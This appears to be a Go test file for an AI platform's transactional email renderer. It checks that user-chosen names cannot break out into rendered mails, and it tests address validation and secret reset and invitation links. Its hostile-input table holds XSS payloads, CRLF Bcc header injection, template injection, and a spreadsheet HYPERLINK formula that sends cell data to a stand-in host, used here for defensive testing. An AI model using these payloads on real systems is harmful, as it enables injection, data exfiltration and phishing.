package mail_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/aiaas/aiaas/shared/mail"
	"github.com/aiaas/aiaas/shared/mail/layout"
	"github.com/aiaas/aiaas/shared/mail/mailtest"
)

const base = "https://ai.example.com/platform"

// secret is that of every link; sealed it says for what.
const secret = "s3cret-_of-the-link"

type vault struct{}

func (vault) Seal(plain, bound string) (string, error) { return bound + "|" + plain, nil }

func (vault) Open(sealed, bound string) (string, error) {
	plain, ok := strings.CutPrefix(sealed, bound+"|")
	if !ok {
		return "", errors.New("it is sealed for something else")
	}
	return plain, nil
}

var shared = sync.OnceValues(func() (*layout.Renderer, error) {
	r, err := layout.New(base)
	if err != nil {
		return nil, err
	}
	return r.Opening(vault{}), nil
})

func renderer(tb testing.TB) *layout.Renderer {
	tb.Helper()
	r, err := shared()
	if err != nil {
		tb.Fatal(err)
	}
	return r
}

// contents are one content of each kind, as yet empty.
func contents() map[mail.Kind]mail.Content {
	return map[mail.Kind]mail.Content{
		mail.KindKeyRotation: &mail.KeyRotation{}, mail.KindKeyCreated: &mail.KeyCreated{}, mail.KindKeyRevoked: &mail.KeyRevoked{},
		mail.KindKeyLeaked: &mail.KeyLeaked{}, mail.KindBudget: &mail.BudgetThreshold{}, mail.KindOrgSuspended: &mail.OrganizationSuspended{},
		mail.KindOrgActivated: &mail.OrganizationActivated{}, mail.KindMemberAdded: &mail.MemberAdded{}, mail.KindWebhookStopped: &mail.WebhookStopped{},
		mail.KindInvoiceIssued: &mail.InvoiceIssued{}, mail.KindTest: &mail.Test{},
		mail.KindInvited: &mail.Invited{}, mail.KindPasswordReset: &mail.PasswordReset{}, mail.KindPasswordChanged: &mail.PasswordChanged{},
		mail.KindNewDevice: &mail.NewDevice{}, mail.KindFactorChanged: &mail.FactorChanged{},
	}
}

// fill puts a text into every field that can hold one, at any depth.
func fill(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Date(2026, 10, 12, 9, 30, 0, 0, time.UTC)))
			return
		}
		for _, f := range v.Fields() {
			fill(f, text)
		}
	case reflect.Int:
		v.SetInt(7)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Pointer:
		fill(v.Elem(), text)
	default:
		panic("a field of a kind that is not filled: " + v.Kind().String())
	}
}

func render(tb testing.TB, kind mail.Kind, organization, text string) mail.Message {
	tb.Helper()
	c := contents()[kind]
	fill(reflect.ValueOf(c), text)
	content, err := json.Marshal(c)
	if err != nil {
		tb.Fatal(err)
	}
	sealed, _ := vault{}.Seal(secret, mail.Bound("mail_1"))
	data, err := json.Marshal(mail.Letter{Organization: mail.Name(organization), Why: "the billing contact", Content: content, Sealed: sealed})
	if err != nil {
		tb.Fatal(err)
	}
	m, err := renderer(tb).Render(mail.Queued{ID: "mail_1", OrgID: "org_1", Kind: kind, Recipient: "ada@example.com", Data: data})
	if err != nil {
		tb.Fatal(err)
	}
	return m
}

func TestEveryKindIsTried(t *testing.T) {
	var tried []mail.Kind
	for k := range contents() {
		tried = append(tried, k)
	}
	slices.Sort(tried)
	if !slices.Equal(tried, mail.Kinds()) {
		t.Errorf("tried %v; there are %v", tried, mail.Kinds())
	}
}

// hostile are names that somebody may choose.
func hostile() map[string]string {
	return map[string]string{
		"script":        `<script>alert(1)</script>`,
		"attribute":     `" onmouseover="alert(1)" x="`,
		"image":         `<img src=https://evil.example.com/p.png onerror=alert(1)>`,
		"comment":       `--></style></title><!--`,
		"template":      `{{.Link}}{{template "line" .}}`,
		"entity":        `&lt;b&gt;&#x3c;script&#x3e;`,
		"header":        "x\r\nBcc: eve@example.com\r\n\r\n<h1>body</h1>",
		"lone LF":       "x\nBcc: eve@example.com",
		"line marks":    "x\u2028Bcc: eve\u2029y\u0085z\vw",
		"bidi":          "invoice\u202egpj.exe\u202c \u2066\u2067\u2068\u2069\u200f\u061c",
		"invisible":     "pay\u200bpal\u2060\ufeff\u00ad\u3164\U000e0041",
		"NUL":           "a\x00b\x1b[31mred\x07",
		"not UTF-8":     "a\xff\xfe\xc3(",
		"10 KB":         strings.Repeat("long name ", 1024),
		"one word":      strings.Repeat("x", 10<<10),
		"marks":         "z" + strings.Repeat("\u0301\u0316", 5000),
		"formula":       `=HYPERLINK("http://evil.example.com/?"&A1,"click")`,
		"address":       "Your account is locked: https://evil.example.com/login?x=1 or evil.example.com",
		"javascript":    "javascript:alert(1)",
		"mailto":        "mailto:eve@evil.example.com",
		"mark of names": "\u2068\u2069\u2069\u2068a\u2069b\u2068",
		"empty":         "",
		"spaces":        " \t\u00a0\u3000 ",
	}
}

var (
	tags  = regexp.MustCompile(`<(/?[a-zA-Z!][^\s>]*)`)
	attrs = regexp.MustCompile(`(?s)\s([a-zA-Z-]+)=`)
	links = regexp.MustCompile(`(?i)[a-z][a-z0-9+.-]*://[^\s"<>]*`)
)

func TestNamesStayInTheirPlace(t *testing.T) {
	calm := map[mail.Kind]mail.Message{}
	for _, k := range mail.Kinds() {
		calm[k] = render(t, k, "Analytical Engines", "a calm name")
	}
	for name, text := range hostile() {
		for _, k := range mail.Kinds() {
			t.Run(name+"/"+string(k), func(t *testing.T) {
				m := render(t, k, text, text)
				checkSubject(t, m.Subject)
				checkText(t, m.Text)
				checkHTML(t, m.HTML, calm[k].HTML)
				if strings.Count(m.Text, "-- \n") != 1 {
					t.Errorf("the text has another end:\n%s", m.Text)
				}
			})
		}
	}
}

func checkSubject(t *testing.T, s string) {
	t.Helper()
	if n := utf8.RuneCountInString(s); n == 0 || n > 151 {
		t.Errorf("subject of %d characters", n)
	}
	noTricks(t, "subject", s, "")
}

// noTricks fails on characters that change how others are shown.
func noTricks(t *testing.T, what, s, allowed string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s is not valid UTF-8", what)
	}
	for _, r := range s {
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co) && !strings.ContainsRune(allowed, r) {
			t.Fatalf("%s has %U", what, r)
		}
	}
}

func checkText(t *testing.T, s string) {
	t.Helper()
	noTricks(t, "text", s, "\n")
	if len(s) > 20<<10 {
		t.Errorf("text of %d bytes", len(s))
	}
	onlyOurLinks(t, s)
	for l := range strings.Lines(s) {
		if strings.HasPrefix(l, "Bcc:") {
			t.Errorf("a name began a line: %q", l)
		}
	}
}

// ours are the places that mails lead to.
func ours() []string {
	token := "#token=" + secret
	return []string{"/docs#", "/forgot-password", "/account", "/invitation" + token, "/reset-password" + token}
}

func onlyOurLinks(t *testing.T, s string) {
	t.Helper()
	for _, l := range links.FindAllString(s, -1) {
		if !slices.ContainsFunc(ours(), func(place string) bool { return strings.HasPrefix(l, base+place) }) {
			t.Errorf("it leads to %q", l)
		}
	}
	for _, site := range []string{"evil.example.com"} {
		if strings.Contains(s, site) {
			t.Errorf("%s can be followed", site)
		}
	}
}

// checkHTML compares the elements and attributes with those of a mail with names
// that are none of these.
func checkHTML(t *testing.T, s, calm string) {
	t.Helper()
	noTricks(t, "HTML", s, "\n")
	if len(s) > 40<<10 {
		t.Errorf("HTML of %d bytes", len(s))
	}
	kinds := func(s string) []string {
		var out []string
		for _, m := range tags.FindAllStringSubmatch(s, -1) {
			out = append(out, strings.ToLower(m[1]))
		}
		for tag := range strings.SplitSeq(s, "<") {
			inside, _, _ := strings.Cut(tag, ">")
			for _, m := range attrs.FindAllStringSubmatch(inside, -1) {
				out = append(out, "@"+strings.ToLower(m[1]))
			}
		}
		slices.Sort(out)
		return slices.Compact(out)
	}
	known := kinds(calm)
	for _, k := range kinds(s) {
		if !slices.Contains(known, k) {
			t.Errorf("a name brought %q into the page:\n%s", k, s)
		}
	}
	for _, never := range []string{"<script", "<img", "javascript:alert(1)\"", "onerror=\"", "onmouseover=\""} {
		if strings.Contains(strings.ToLower(s), never) {
			t.Errorf("the page has %s", never)
		}
	}
	onlyOurLinks(t, s)
}

func TestNoNameOfAnyKindLeavesItsPlace(t *testing.T) {
	parts := rapid.SliceOf(rapid.SampledFrom([]string{
		"<", ">", "\"", "'", "&", "\r\n", "\u202e", "\u2068", "\u2069", "://", ".", "a", "evil.example.com", "{{", "}}", "\x00", "\xff", " ", "\u0301", "é", "漢", "\U0001F680",
	}))
	calm := render(t, mail.KindKeyCreated, "org", "calm").HTML
	rapid.Check(t, func(r *rapid.T) {
		text := strings.Join(parts.Draw(r, "name"), "")
		m := render(t, mail.KindKeyCreated, text, text)
		if strings.ContainsFunc(m.Subject, unicode.IsControl) || !utf8.ValidString(m.HTML+m.Text) {
			r.Fatalf("%q is let through", text)
		}
		if strings.Contains(m.Text, "evil.example.com") || strings.Contains(m.HTML, "evil.example.com") {
			r.Fatalf("%q leads somewhere", text)
		}
		count := func(s string) int { return strings.Count(s, "<") - strings.Count(s, "bdi>") }
		// Facts that say nothing are left out, with their rows of three elements, and
		// with all of the five the table too.
		if d := count(calm) - count(m.HTML); d < 0 || (d%6 != 0 && d != 5*6+2) {
			r.Fatalf("%q changes the elements by %d:\n%s", text, d, m.HTML)
		}
	})
}

func TestAMailReadsWell(t *testing.T) {
	for _, k := range mail.Kinds() {
		m := render(t, k, "Analytical Engines", "Ada’s key")
		for what, s := range map[string]string{"subject": m.Subject, "text": m.Text, "HTML": m.HTML} {
			if strings.TrimSpace(s) == "" || strings.Contains(s, "%!") || strings.Contains(s, "0001-01-01") || strings.Contains(s, "<no value>") {
				t.Errorf("%s: %s reads %q", k, what, s)
			}
		}
		for _, want := range []string{"Analytical Engines", "the billing contact"} {
			if !strings.Contains(m.Text, want) || !strings.Contains(m.HTML, want) {
				t.Errorf("%s: it does not say %q:\n%s", k, want, m.Text)
			}
		}
		if strings.Contains(m.HTML, "http://") || strings.Contains(m.HTML, "src=") {
			t.Errorf("%s: the page loads something from elsewhere", k)
		}
	}
}

func TestNames(t *testing.T) {
	for in, want := range map[string]string{
		"Ada":                          "Ada",
		"  two   words\t":              "two words",
		"a\nb":                         "a b",
		"\u202eabc":                    "abc",
		"می\u200cخواهم":                "می\u200cخواهم", // a joiner that Persian needs
		"e\u0301\u0301\u0301\u0301":    "e\u0301\u0301\u0301",
		strings.Repeat("é", 81):        strings.Repeat("é", 80) + "…",
		"\U0001F468\u200d\U0001F4BB x": "\U0001F468\u200d\U0001F4BB x",
	} {
		if got := strings.Trim(mail.Name(in).String(), "\u2068\u2069"); got != want {
			t.Errorf("%q is shown as %q; want %q", in, got, want)
		}
	}
	if got := mail.Name("\u200b \u202e").Or("key_1"); got != "key_1" {
		t.Errorf("a name without a visible character is shown as %q", got)
	}
}

func TestWhatLooksLikeALinkIsNone(t *testing.T) {
	for name, want := range map[string]string{
		"Booking.com": "“Booking[.]com”", "v1.2": "“v1.2”", "https://a.example/x": "“https[:]//a[.]example/x”", "node.js and 3.5": "“node[.]js and 3.5”",
	} {
		m := render(t, mail.KindKeyCreated, "org", name)
		if !strings.Contains(m.Text, want) {
			t.Errorf("%q does not read %s:\n%s", name, want, m.Text)
		}
	}
}

func TestNameIsKeptAsItIs(t *testing.T) {
	raw, err := json.Marshal(mail.Name("<b>\u202e"))
	if err != nil {
		t.Fatal(err)
	}
	var back mail.Name
	if err := json.Unmarshal(raw, &back); err != nil || back != "<b>\u202e" {
		t.Errorf("%s became %q: %v", raw, string(back), err)
	}
}

func TestAddresses(t *testing.T) {
	for address, ok := range map[string]bool{
		"ada@example.com": true, "a+b@sub.example.org": true, "owner@localhost": true, "münch@example.com": true,
		"": false, "ada": false, "@example.com": false, "ada@": false, "Ada <ada@example.com>": false, "ada@example.com\n": false, "ada@example.com\r\nBcc: e@x": false,
		"ada@example.com,eve@example.com": false, "a b@example.com": false, `"a\"b"@example.com`: false, "ada(x)@example.com": false, "ada@\u202eexample.com": false,
		strings.Repeat("a", 250) + "@x.example": false,
	} {
		if err := mail.CheckAddress(address); (err == nil) != ok {
			t.Errorf("%q: %v", address, err)
		}
	}
}

func TestThePublicAddress(t *testing.T) {
	for address, ok := range map[string]bool{
		"https://ai.example.com": true, "http://127.0.0.1:8080/": true, "https://example.com/ai": true,
		"": false, "ai.example.com": false, "javascript:alert(1)": false, "ftp://example.com": false, "https://": false,
		"https://u:p@example.com": false, "https://example.com/?a=b": false, "https://example.com/#x": false, "http://a b": false,
	} {
		_, err := layout.New(address)
		if (err == nil) != ok {
			t.Errorf("%q: %v", address, err)
		}
		if err != nil && strings.Contains(err.Error(), "u:p") {
			t.Errorf("the error repeats the address: %v", err)
		}
	}
}

func TestWhatCanNotBeRendered(t *testing.T) {
	for name, q := range map[string]mail.Queued{
		"a kind of another version": {Kind: "party.invitation", Data: []byte(`{"content":{}}`)},
		"no letter":                 {Kind: mail.KindTest, Data: []byte(`[]`)},
		"content of another kind":   {Kind: mail.KindBudget, Data: []byte(`{"content":{"threshold":"many"}}`)},
		"a letter that was emptied": {Kind: mail.KindTest, Data: []byte(`{}`)},
	} {
		if m, err := renderer(t).Render(q); err == nil {
			t.Errorf("%s: rendered %q", name, m.Subject)
		}
	}
}

func TestTheRecorderIsASender(t *testing.T) {
	mailtest.Run(t, func(*testing.T) mailtest.Mailbox {
		var r mailtest.Recorder
		return mailtest.Mailbox{Sender: &r, Received: func(*testing.T) []mailtest.Received {
			var out []mailtest.Received
			for _, m := range r.Sent() {
				out = append(out, mailtest.Received{To: m.To, Subject: m.Subject, Text: m.Text, HTML: m.HTML})
			}
			return out
		}}
	})
}

func Example() {
	r, _ := layout.New("https://ai.example.com")
	content, _ := json.Marshal(mail.InvoiceIssued{InvoiceID: "inv_1", Number: "2026-0001", Period: "2026-10", Total: "12.50", Currency: "EUR"})
	data, _ := json.Marshal(mail.Letter{Organization: "Analytical Engines", Why: "the billing contact", Content: content})
	m, _ := r.Render(mail.Queued{ID: "mail_1", Kind: mail.KindInvoiceIssued, Recipient: "ada@example.com", Data: data})
	fmt.Println(m.Subject)
	fmt.Print(strings.ReplaceAll(m.Text, "-- \n", "--\n"))
	// Output:
	// Invoice 2026-0001: 12.50 EUR
	// Invoice 2026-0001: 12.50 EUR
	//
	// The invoice 2026-0001 over 12.50 EUR was issued.
	//
	// Invoice: 2026-0001
	// Period: 2026-10
	// Total: 12.50 EUR
	//
	// How to get the invoice as PDF:
	// https://ai.example.com/docs#getInvoice
	//
	// On the command line: aiaas invoice get inv_1 --pdf FILE
	//
	// --
	// You get this mail as the billing contact of Analytical Engines. Answers to it are not read.
}

func TestALinkEndsInItsSecretAndNothingElseDoes(t *testing.T) {
	want := map[mail.Kind]string{mail.KindInvited: base + "/invitation#token=" + secret, mail.KindPasswordReset: base + "/reset-password#token=" + secret}
	for _, k := range mail.Kinds() {
		m := render(t, k, "Analytical Engines", "calm")
		link, has := want[k]
		if n := strings.Count(m.Text, secret); (n == 1) != has {
			t.Errorf("%s has the secret %d times", k, n)
		}
		if has && (!strings.Contains(m.Text, "\n"+link+"\n") || !strings.Contains(m.HTML, `href="`+link+`"`)) {
			t.Errorf("%s does not lead to %s:\n%s", k, link, m.Text)
		}
		if strings.Contains(m.Subject, secret) {
			t.Errorf("the subject of %s has the secret", k)
		}
	}
}

func TestASecretIsOfOneMailOnly(t *testing.T) {
	draft, err := mail.NewDraft(mail.Directory{Name: "o"}, "org_1", mail.Recipient{Address: "a@example.com", Why: "w"}, mail.KindInvited, mail.Invited{})
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := draft.Linking(vault{}, secret)
	if err != nil {
		t.Fatal(err)
	}
	closed, err := layout.New(base)
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		with *layout.Renderer
		q    mail.Queued
		fine bool
	}{
		"its own":            {renderer(t), mail.Queued{ID: sealed.ID, Data: sealed.Data}, true},
		"that of another":    {renderer(t), mail.Queued{ID: "mail_2", Data: sealed.Data}, false},
		"none":               {renderer(t), mail.Queued{ID: draft.ID, Data: draft.Data}, false},
		"nobody can open it": {closed, mail.Queued{ID: sealed.ID, Data: sealed.Data}, false},
	} {
		c.q.Kind = mail.KindInvited
		m, err := c.with.Render(c.q)
		if (err == nil) != c.fine || strings.Contains(m.Text, secret) != c.fine {
			t.Errorf("%s: %v, %q", name, err, m.Text)
		}
		if err != nil && strings.Contains(err.Error(), secret) {
			t.Errorf("%s: the error tells the secret: %v", name, err)
		}
	}
}

func TestANoteIsSealedForItself(t *testing.T) {
	n, err := mail.NewNote("org_1", "user_1", mail.KindPasswordReset, mail.PasswordReset{Expires: noon()}, noon())
	if err != nil {
		t.Fatal(err)
	}
	if n, err = n.Linking(vault{}, secret); err != nil || n.Sealed != mail.Bound(n.ID)+"|"+secret {
		t.Errorf("%+v, %v", n, err)
	}
	if strings.Contains(string(n.Content), secret) {
		t.Errorf("the content has the secret: %s", n.Content)
	}
}
